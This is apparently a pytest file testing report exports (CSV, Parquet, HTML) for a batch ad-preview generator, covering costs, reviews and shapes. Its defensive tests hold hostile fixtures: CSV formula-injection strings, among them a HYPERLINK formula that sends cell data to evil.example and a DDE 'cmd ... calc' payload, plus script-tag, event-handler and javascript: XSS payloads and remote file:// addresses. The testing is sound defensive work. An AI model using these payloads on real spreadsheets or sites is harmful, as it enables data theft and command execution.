"""Reports: frames that keep their shape, and files of them that harm nobody who opens them."""

import csv
import io
import json
import re
import subprocess
import sys
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pandas as pd
import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine, delete, update
from sqlalchemy.orm import Session

from catalog.product import Source
from creative.calls import ModelCall
from db import bulk_tasks, costs, reports, reviews
from db.errors import UnknownRecord
from db.halves import PreviewAttempt
from db.models import (
    CTABulkGenerateSource,
    CTABulkGenerateTask,
    CTAIFramePreview,
    ECommerceProduct,
    Review,
)
from db.report_files import as_csv, as_parquet
from db.report_page import as_html
from db.session import unit_of_work
from settings import PROJECT_ROOT
from tests.api.conftest import ANN, MadeBatch, make_batch
from tests.creative.edit_samples import STORED

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Look")'
SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n+", "＝", "－"]
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"


@pytest.fixture
def batch(database: Engine) -> MadeBatch:
    return make_batch(ANN)


@pytest.fixture
def paid(batch: MadeBatch) -> MadeBatch:
    """The batch, with four calls of models, of which one failed."""
    first, second, _ = (PreviewAttempt(preview, uuid4(), 1) for preview in batch.preview_ids)
    picture = ModelCall("painter", 4.5, 1000, 500, Decimal("0.030501"))
    with unit_of_work() as session:
        costs.record(session, first, "background", picture)
        costs.record(session, second, "background", picture)
        costs.record(
            session, first, "prefill",
            ModelCall("writer", 1.25, 900, 0, Decimal("0.000001"), failure="TimedOut"),
        )  # fmt: skip
        costs.record(
            session, first, "prefill", ModelCall("writer", 1.0, 900, 100, Decimal("0.002"))
        )
    return batch


def frames_of(batch_id: UUID) -> dict[str, pd.DataFrame]:
    with unit_of_work() as session:
        report = reports.report(session, batch_id)
    return {
        "previews": report.previews, "sources": report.sources, "cost": report.cost_by_model,
    }  # fmt: skip


def empty_batch() -> UUID:
    with unit_of_work() as session:
        bulk_tasks.record(session, batch_id := uuid4(), [], workspace="acme", user="ann")
    return batch_id


def rename(title: str) -> None:
    with unit_of_work() as session:
        session.execute(update(ECommerceProduct).values(title=title))


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_previews_are_told_with_what_people_read_of_them(paid: MadeBatch) -> None:
    frame = frames_of(paid.id)["previews"].set_index("preview_id")
    first, second, failed = (frame.loc[str(preview)] for preview in paid.preview_ids)
    assert (first["source_position"], first["position"], second["position"]) == (0, 0, 1)
    assert first["product_title"] == "Ember Kettle"
    assert first["headline"] == "The headline of number 0"
    assert first["cta"] == STORED["cta"]["text"]
    assert first["generator"] == "gemini"
    assert json.loads(first["prefill"]) == STORED | {"headline": first["headline"]}
    assert (first["model_calls"], first["tokens_in"], first["tokens_out"]) == (3, 2800, 600)
    assert first["cost_usd"] == Decimal("0.032502")
    assert second["cost_usd"] == Decimal("0.030501")
    assert failed["status"] == "failed"
    assert failed["error_message"] == "The picture was blocked."
    assert pd.isna(failed["headline"])
    assert pd.isna(failed["prefill"])
    assert failed["cost_usd"] == Decimal(0)


def test_edited_fields_are_told_by_their_names(batch: MadeBatch) -> None:
    with unit_of_work() as session:
        session.execute(update(CTAIFramePreview).values(edited_fields=["cta.text", "headline"]))
    assert set(frames_of(batch.id)["previews"]["edited_fields"]) == {"cta.text, headline"}


def test_reviews_are_told_with_who_gave_them_and_when(batch: MadeBatch) -> None:
    with unit_of_work() as session:
        reviews.give(session, batch.preview_ids[0], Review.APPROVED, user="bob")
    frame = frames_of(batch.id)["previews"]
    assert frame.loc[0, ["review", "reviewed_by"]].tolist() == ["approved", "bob"]
    assert pd.notna(frame["reviewed_at"][0])
    assert frame["review"][1:].isna().all()


def test_sources_are_told_with_what_became_of_them(batch: MadeBatch) -> None:
    sources = frames_of(batch.id)["sources"]
    assert list(sources["source_position"]) == [0, 1]
    assert list(sources["source_url"]) == [
        "https://shop.example/kettle", "https://shop.example/gone",
    ]  # fmt: skip
    assert list(sources["status"]) == ["done", "failed"]
    assert list(sources["done"]) == [2, 0]
    assert list(sources["failed"]) == [1, 1]
    assert sources["error_message"][1] == "The page is gone."


def test_cost_is_told_by_half_and_model(paid: MadeBatch) -> None:
    cost = frames_of(paid.id)["cost"]
    assert cost.to_dict("records") == [
        {"half": "background", "model": "painter", "calls": 2, "failed_calls": 0, "tokens_in": 2000,
         "tokens_out": 1000, "seconds": 9.0, "cost_usd": Decimal("0.061002")},
        {"half": "prefill", "model": "writer", "calls": 2, "failed_calls": 1, "tokens_in": 1800,
         "tokens_out": 100, "seconds": 2.25, "cost_usd": Decimal("0.002001")},
    ]  # fmt: skip


def test_what_was_paid_for_a_deleted_preview_is_told(paid: MadeBatch) -> None:
    before = frames_of(paid.id)["cost"]
    with unit_of_work() as session:
        session.execute(delete(CTAIFramePreview))
    pd.testing.assert_frame_equal(frames_of(paid.id)["cost"], before)


def test_a_batch_of_which_nothing_is_known_is_refused(session: Session) -> None:
    for of_what in (
        reports.report, reports.previews_frame, reports.sources_frame, reports.cost_frame,
    ):  # fmt: skip
        with pytest.raises(UnknownRecord):
            of_what(session, uuid4())


def test_frames_keep_their_shape_whatever_is_in_them(paid: MadeBatch) -> None:
    full, empty = frames_of(paid.id), frames_of(empty_batch())
    for name, frame in empty.items():
        assert frame.empty
        assert list(frame.columns) == list(full[name].columns)
        assert dict(frame.dtypes) == dict(full[name].dtypes), name
    for column in ("reviewed_at", "started_at", "finished_at"):
        assert str(full["previews"][column].dtype) == "datetime64[us, UTC]"


def test_parquet_gives_the_same_frames_back(paid: MadeBatch) -> None:
    for batch_id in (paid.id, empty_batch()):
        for frame in frames_of(batch_id).values():
            back = pd.read_parquet(io.BytesIO(as_parquet(frame)))
            pd.testing.assert_frame_equal(back, frame)


def test_money_has_one_type_in_parquet_whatever_the_sums(paid: MadeBatch) -> None:
    for batch_id in (paid.id, empty_batch()):
        for name in ("previews", "cost"):
            file = io.BytesIO(as_parquet(frames_of(batch_id)[name]))
            assert str(pq.read_schema(file).field("cost_usd").type) == "decimal128(20, 6)"


def test_csv_is_told_to_excel_as_utf_8(batch: MadeBatch) -> None:
    rename("Größe – 木の椅子")
    content = as_csv(frames_of(batch.id)["previews"])
    assert content.startswith(b"\xef\xbb\xbfpreview_id,")
    assert rows_of(content)[0]["product_title"] == "Größe – 木の椅子"
    assert as_csv(frames_of(empty_batch())["previews"]).count(b"\r\n") == 1


def test_csv_keeps_money_and_prefills_whole(paid: MadeBatch) -> None:
    frame = frames_of(paid.id)["previews"]
    rows = rows_of(as_csv(frame))
    assert [row["cost_usd"] for row in rows] == ["0.032502", "0.030501", "0.000000"]
    assert json.loads(rows[0]["prefill"]) == json.loads(frame["prefill"][0])
    assert [row["prefill"] for row in rows][2] == ""
    assert rows[0]["started_at"].endswith("+00:00")


@pytest.mark.parametrize("sign", SIGNS)
def test_no_text_begins_a_formula(batch: MadeBatch, sign: str) -> None:
    rename(f"{sign}1+1")
    with unit_of_work() as session:
        session.execute(
            update(CTABulkGenerateSource)
            .where(CTABulkGenerateSource.error_message.is_not(None))
            .values(error_message=f"{sign}cmd|' /C calc'!A0")
        )
    frames = frames_of(batch.id)
    assert rows_of(as_csv(frames["previews"]))[0]["product_title"] == f"'{sign}1+1".replace(
        "\t=", "\t'="
    ).replace("\r=", "\r'=").replace("\n+", "\n'+")
    assert rows_of(as_csv(frames["sources"]))[1]["error_message"].startswith(f"'{sign[0]}")


def test_no_cell_begins_a_formula_where_lists_are_separated_otherwise(batch: MadeBatch) -> None:
    """As in many countries: Excel then begins a cell at each `;` and a row at each line."""
    hostile = f"Kettle;{FORMULA}\n{FORMULA};@x"
    address = "https://shop.example/k.jpg;=cmd|'!A0"
    rename(hostile)
    with unit_of_work() as session:
        session.execute(
            update(CTAIFramePreview).values(
                source_image_url=address, prefill=STORED | {"subtitle": f"a;{FORMULA}"}
            )
        )
    frame = frames_of(batch.id)["previews"]
    content = as_csv(frame)
    cells = re.split(r"[;\r\n]", content.decode("utf-8-sig"))
    assert len(cells) > 10
    assert [cell for cell in cells if cell[:1] in set("=+-@\t")] == []
    row = rows_of(content)[0]
    assert row["original_background_url"] == address.replace(";=", ";%3D")
    assert json.loads(row["prefill"]) == json.loads(frame["prefill"][0])


def test_harmless_text_addresses_and_numbers_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "title": [
                "Kettle - 1,7 l (50 %+) = good @ home",
                'He said "tea"',
                "two\nlines; and more",
            ],
            "source_url": ["https://shop.example/a?b=-1&c=+2;d=@", "https://shop.example/'", "x"],
            "number": [-1, 2, -3],
        }
    )
    for written, row in zip(
        rows_of(as_csv(frame)), frame.astype(str).to_dict("records"), strict=True
    ):
        assert written == row


class Tags(HTMLParser):
    """What a browser finds in a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.text = self.policy = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if ("http-equiv", "Content-Security-Policy") in attrs:
            self.policy = str(dict(attrs)["content"])
        self.addresses += [str(value) for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data


def page_of(batch_id: UUID) -> str:
    with unit_of_work() as session:
        return as_html(reports.report(session, batch_id))


def test_the_page_tells_counts_sources_previews_and_cost(paid: MadeBatch) -> None:
    page = page_of(paid.id)
    for told in (
        "Batch Task - ", "Previews asked for</dt><dd>4<", "The page is gone.",
        "The picture was blocked.", "Ember Kettle", "The headline of number 1", "painter",
        "$0.063003", "2 of 3",
    ):  # fmt: skip
        assert told in page, told


def test_nothing_in_the_page_is_markup_of_others(batch: MadeBatch) -> None:
    rename(MARKUP)
    with unit_of_work() as session:
        hostile = STORED | {
            "headline": MARKUP, "subtitle": '" onload="alert(3)', "price": MARKUP,
            "cta": {"text": MARKUP, "url": "javascript:alert(4)"},
            "generated_background_url": 'https://cdn.example/"><script>alert(5)</script>',
        }  # fmt: skip
        session.execute(update(CTAIFramePreview).values(prefill=hostile, error_message=MARKUP))
        session.execute(update(CTABulkGenerateSource).values(url="javascript:alert(6)"))
        session.execute(update(CTABulkGenerateTask).values(name=MARKUP, error_message=MARKUP))
    page = page_of(batch.id)
    seen = Tags(page)
    assert "script" not in seen.tags
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert seen.addresses
    assert all(re.match("https?://", address) for address in seen.addresses)
    assert MARKUP in seen.text
    assert seen.policy.startswith("default-src 'none'; img-src http: https: file:; style-src 'sha")


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://cdn.example/1.webp", True), ("http://127.0.0.1/1.jpg", True),
        ("file:///media/backgrounds/1.jpg", True), ("file://evil.example/share/1.jpg", False),
        ("file:////evil.example/share/1.jpg", False), (r"file:///\\evil.example\1.jpg", False),
        ("data:image/svg+xml,<svg/>", False), ("javascript:alert(1)", False), ("1.jpg", False),
    ],
)  # fmt: skip
def test_a_picture_is_shown_where_it_is_safe_to_load(
    batch: MadeBatch, address: str, shown: bool
) -> None:
    with unit_of_work() as session:
        session.execute(
            update(CTAIFramePreview).values(prefill=STORED | {"generated_background_url": address})
        )
    assert (f'<img src="{address}"' in page_of(batch.id)) is shown


def test_a_batch_without_previews_has_a_page_too(database: Engine) -> None:
    page = page_of(empty_batch())
    assert "No preview was recorded." in page
    assert "No model was called." in page


def command(*options: str) -> "subprocess.CompletedProcess[str]":
    return subprocess.run(
        [sys.executable, "-m", "db.write_report", *options],
        cwd=PROJECT_ROOT, capture_output=True, text=True, check=False,
    )  # fmt: skip


def test_the_command_writes_the_newest_batch_of_its_workspace(
    paid: MadeBatch, tmp_path: Path
) -> None:
    with unit_of_work() as session:
        bulk_tasks.record(
            session, newer := uuid4(), [Source(url="https://shop.example/a")],
            workspace="rival", user="eve",
        )  # fmt: skip
    told = command("--workspace", "acme", "--folder", str(tmp_path / "new" / "report"))
    assert told.returncode == 0, told.stderr
    written = sorted((tmp_path / "new" / "report").iterdir())
    assert [file.name for file in written] == [
        "cost.csv", "cost.parquet", "previews.csv", "previews.parquet", "report.html",
        "sources.csv", "sources.parquet",
    ]  # fmt: skip
    assert all(str(file) in told.stdout for file in written)
    assert "2 of 4 previews are done" in told.stdout
    assert len(pd.read_parquet(tmp_path / "new" / "report" / "previews.parquet")) == 3

    by_id = command("--workspace", "rival", "--batch", str(newer))
    assert f"reports/{newer}/report.html" in by_id.stdout
    foreign = command("--workspace", "rival", "--batch", str(paid.id))
    assert foreign.returncode == 1
    assert foreign.stderr == f"There is no batch with the id {paid.id} in the workspace 'rival'.\n"


def test_the_command_says_so_when_there_is_no_batch(database: Engine) -> None:
    told = command()
    assert told.returncode == 1
    assert told.stderr == "There is no batch yet in the workspace 'default'.\n"


def test_the_result_and_the_report_have_the_same_columns(paid: MadeBatch) -> None:
    with unit_of_work() as session:
        result: Any = reports.bulk_generate_result(session, paid.id)
    frame = result.to_frame()
    assert list(frame.columns) == list(frames_of(paid.id)["previews"].columns)
    assert list(frame["preview_id"]) == paid.preview_ids
